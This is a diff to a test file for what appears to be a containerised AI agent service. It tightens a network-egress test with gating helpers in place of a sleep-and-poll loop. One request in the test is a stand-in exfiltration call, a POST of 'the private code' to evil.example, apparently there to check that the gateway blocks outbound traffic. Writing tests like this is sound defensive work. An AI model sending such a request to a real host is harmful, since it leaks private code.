@@ -26,7 +26,7 @@
 import { env } from "cloudflare:workers";
 import { afterEach, describe, expect, it } from "vitest";
 import { sessionName } from "../src/run/session-name";
-import { agentFor, toolParts, uniqueRepo, waitForStatus, type TestAgent } from "./helpers";
+import { agentFor, gate, toolParts, uniqueRepo, until, waitForStatus, type TestAgent } from "./helpers";
 import { FakeGitHub, serveGitHub } from "./support/github";
 import { containerRun, readOnlyToken, recordingInternet, runBy, sendFromContainer, workspaceOf } from "./support/container-egress";
 import { TEST_GITHUB_API_URL } from "./worker";
@@ -110,6 +110,8 @@ describe("the container's network", () => {
         body: `${line}0000PACK-bytes`
       });
     };
+    const sent = gate();
+    runner.during(/echo from-the-container/, () => sent.promise);
     const agent = await agentFor(session);
     const { submissionId } = await agent.startRun({
       session,
@@ -117,10 +119,10 @@ describe("the container's network", () => {
       issueNumber: 5,
       installationToken: TOKEN,
       commentId: 5,
-      instruction: "TEST: container echo from-the-container\nTEST: sleep 3000\nTEST: reply done"
+      instruction: "TEST: container echo from-the-container\nTEST: reply done"
     });
-    // While the turn runs (its model is thinking), the container's programs send their requests.
-    for (let i = 0; i < 250 && !runner.commands().includes("from-the-container"); i++) await new Promise((resolve) => setTimeout(resolve, 20));
+    // While the turn runs (its command waits for the test), the container's programs send their requests.
+    await until(() => runner.commands().includes("from-the-container"), "the turn's command");
     const answers = await sendFromContainer(workspace, sandboxId, container, [
       () => new Request(`https://github.com/${repo}.git/info/refs?service=git-upload-pack`),
       () => new Request(`https://github.com/${repo}.git/info/refs?service=git-receive-pack`),
@@ -128,6 +130,7 @@ describe("the container's network", () => {
       receivePack("refs/heads/main"),
       () => new Request("https://evil.example/exfiltrate", { method: "POST", body: "the private code" })
     ]);
+    sent.open();
     expect((await waitForStatus(agent, submissionId)).status).toBe("completed");
 
     // The container was started with no direct internet: only what the gateway lets out.
